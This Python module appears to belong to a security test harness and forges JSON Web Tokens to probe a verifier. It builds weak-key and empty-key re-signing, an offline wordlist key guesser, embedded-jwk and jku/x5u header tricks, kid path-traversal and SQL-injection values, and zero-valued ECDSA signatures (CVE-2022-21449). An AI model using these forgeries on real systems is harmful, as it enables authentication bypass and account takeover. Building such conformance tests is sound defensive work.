"""JSON Web Tokens signed with keys of our own, or that anyone may guess, made from a genuine one.

A key in the token's own header, the name of a key that leads elsewhere, a word of every example:
RFC 8725 §3 tells of them. No address in one leads anywhere.
"""

from __future__ import annotations

import hmac
import json
import secrets
from functools import cache
from typing import TYPE_CHECKING

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from harness.ageing.claims import jwt_of
from harness.core import base64url
from harness.core.outcomes import Excluded
from spec import products

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from harness.ageing.claims import Jwt

    Claims = Mapping[str, object]
    Sign = Callable[[bytes], bytes]

NOWHERE = "https://keys.invalid/keys.json"
"""An address that no name leads to (RFC 2606 §2)."""
_KEY = b"meiro-contracts-meiro-contracts-meiro-contracts"
"""A key of our own, where it matters which one."""
_DIGESTS = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
_WORDS = (
    *("secret", "secret-key", "secret_key", "secretkey", "my-secret", "my_secret", "mysecret"),
    *("your-256-bit-secret", "your-384-bit-secret", "your-512-bit-secret", "your-secret"),
    *("a-string-secret-at-least-256-bits-long", "your-secret-key", "your_secret_key", "s3cr3t"),
    *("super-secret", "super_secret", "supersecret", "super-secret-key", "supersecretkey"),
    *("top-secret", "topsecret", "not-so-secret", "shhhhh", "keyboard cat", "private", "key"),
    *("jwt", "jwt-secret", "jwt_secret", "jwtsecret", "jwt-secret-key", "token", "sign", "hmac"),
    *("password", "passw0rd", "changeme", "change-me", "change_me", "changeit", "default", "demo"),
    *("admin", "root", "test", "test-secret", "testsecret", "dev", "dev-secret", "development"),
    *("example", "sample", "foo", "bar", "foobar", "hello", "none", "null", "undefined", "todo"),
    *("123456", "12345678", "123456789", "1234567890", "qwerty", "abc123", "letmein", "xxx"),
    *("meiro", "meiro-secret", "meiro-events", "meiro-integrations", "events"),
    *(word for name in products.names() for word in (name, f"meiro-{name}")),
)
"""What a key is that nobody chose: words of examples, and of what the product is called."""
_CHARACTERS = ("", "\0", "0", "a", "\0" * 32, "0" * 32, "a" * 32)


def resigned(token: str) -> str:
    """Sign the same claims with a key of our own."""
    return _signed(token, secrets.token_bytes(32))


def signed_with_nothing(token: str) -> str:
    """Sign the same claims with an empty key, which one that was never set may be."""
    return _signed(token, b"")


def signed_with_nothing_at_length(token: str) -> str:
    """Do so by another algorithm of the family."""
    return _signed(token, b"", {"alg": "HS512"})


def signed_with_a_word(token: str) -> str:
    """Sign the same claims with the key of every example."""
    return _signed(token, b"secret")


def signed_with_a_guess(token: str) -> str:
    """Sign the same claims with the key of the genuine token, where it is one that is guessed."""
    key = guessed_key(token)
    if key is None:
        raise Excluded("", "nobody guesses the key of this instance's tokens")
    return _signed(token, key, {"alg": required_jwt(token).header["alg"]})


def embedded_key(token: str) -> str:
    """Sign with a key of our own, and hold it in the header (CVE-2018-0114)."""
    key = {"kty": "oct", "k": base64url.encode(_KEY), "kid": "own", "alg": "HS256"}
    return _signed(token, _KEY, {"jwk": key, "kid": "own"})


def embedded_public_key(token: str) -> str:
    """Sign with a private key of our own, and hold its public one in the header."""
    header = {"alg": "RS256", "kid": "own", "jwk": _rsa_jwk()}
    return _token(required_jwt(token).header | header, required_jwt(token).claims, _rs256)


def embedded_curve_key(token: str) -> str:
    """Do so with a key of an elliptic curve."""
    header = {"alg": "ES256", "kid": "own", "jwk": _curve_jwk()}
    return _token(required_jwt(token).header | header, required_jwt(token).claims, _es256)


def key_elsewhere(token: str) -> str:
    """Sign with a private key of our own, and tell an address of its public one."""
    header = {"alg": "RS256", "kid": "own", "jku": NOWHERE}
    return _token(required_jwt(token).header | header, required_jwt(token).claims, _rs256)


def certificate_elsewhere(token: str) -> str:
    """Do so by the address of a certificate."""
    header = {"alg": "RS256", "kid": "own", "x5u": NOWHERE}
    return _token(required_jwt(token).header | header, required_jwt(token).claims, _rs256)


def key_of_an_empty_file(token: str) -> str:
    """Name a file as the key that holds nothing, and sign with nothing."""
    return _signed(token, b"", {"kid": "../../../../../../../../dev/null"})


def key_of_a_known_file(token: str) -> str:
    """Name a file as the key that holds the same on every machine."""
    name = "../../../../../../../../proc/sys/kernel/randomize_va_space"
    return _signed(token, b"2\n", {"kid": name})


def key_of_a_query(token: str) -> str:
    """Name as the key what makes a query give the one that was signed with."""
    return _signed(token, b"own", {"kid": "x' UNION SELECT 'own' -- "})


def key_without_a_name(token: str) -> str:
    """Name no key, and sign with nothing."""
    return _signed(token, b"", {"kid": ""})


def signature_of_nothing(token: str) -> str:
    """Sign by a curve with zeros, which fit whatever is signed (CVE-2022-21449)."""
    jwt = required_jwt(token)
    return _token(jwt.header | {"alg": "ES256"}, jwt.claims, lambda _: bytes(64))


def signature_of_nothing_in_asn1(token: str) -> str:
    """Write these zeros as other protocols do."""
    jwt = required_jwt(token)
    written = bytes.fromhex("3006020100020100")
    return _token(jwt.header | {"alg": "ES256"}, jwt.claims, lambda _: written)


def guessed_key(token: str) -> bytes | None:
    """Return the key of a token that a short list of words holds; None where it is none of them.

    Nothing is sent for it: who has a token can try keys at home.
    """
    jwt = required_jwt(token)
    digest = _DIGESTS.get(str(jwt.header.get("alg")))
    if digest is None:
        return None
    said = token.rpartition(".")[0].encode()
    spellings = (str.lower, str.upper, str.title)
    words = dict.fromkeys(spell(word) for word in _WORDS for spell in spellings)
    for key in (each.encode() for each in (*_CHARACTERS, *words)):
        if base64url.encode(hmac.digest(key, said, digest)) == jwt.signature.rstrip("="):
            return key
    return None


def _signed(token: str, key: bytes, header: Claims | None = None) -> str:
    """Sign the same claims with a key; by HS256, unless the header says otherwise."""
    jwt = required_jwt(token)
    changed = {**jwt.header, "alg": "HS256", **(header or {})}
    digest = _DIGESTS[str(changed["alg"])]
    return _token(changed, jwt.claims, lambda said: hmac.digest(key, said, digest))


def _token(header: Claims, claims: Claims, sign: Sign) -> str:
    said = f"{encoded(header)}.{encoded(claims)}"
    return f"{said}.{base64url.encode(sign(said.encode()))}"


@cache
def _rsa_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65_537, key_size=2048)


@cache
def _curve_key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def _rs256(said: bytes) -> bytes:
    return _rsa_key().sign(said, padding.PKCS1v15(), hashes.SHA256())


def _es256(said: bytes) -> bytes:
    """Sign as RFC 7518 §3.4 has it: two numbers of 32 bytes, one behind the other."""
    pair = decode_dss_signature(_curve_key().sign(said, ec.ECDSA(hashes.SHA256())))
    return b"".join(number.to_bytes(32, "big") for number in pair)


def _rsa_jwk() -> dict[str, object]:
    numbers = _rsa_key().public_key().public_numbers()
    return {"kty": "RSA", "kid": "own", "n": _number(numbers.n), "e": _number(numbers.e)}


def _curve_jwk() -> dict[str, object]:
    numbers = _curve_key().public_key().public_numbers()
    point = {"x": _number(numbers.x, 32), "y": _number(numbers.y, 32)}
    return {"kty": "EC", "kid": "own", "crv": "P-256", **point}


def _number(value: int, size: int | None = None) -> str:
    return base64url.encode(value.to_bytes(size or (value.bit_length() + 7) // 8, "big"))


def required_jwt(token: str) -> Jwt:
    """Take a token apart; Excluded where it is opaque."""
    jwt = jwt_of(token)
    if jwt is None:
        raise Excluded("", "tokens of this instance are opaque, not JWT")
    return jwt


def encoded(value: Claims) -> str:
    """Write a header or claims as a part of a token."""
    return base64url.encode(json.dumps(value, separators=(",", ":")).encode())
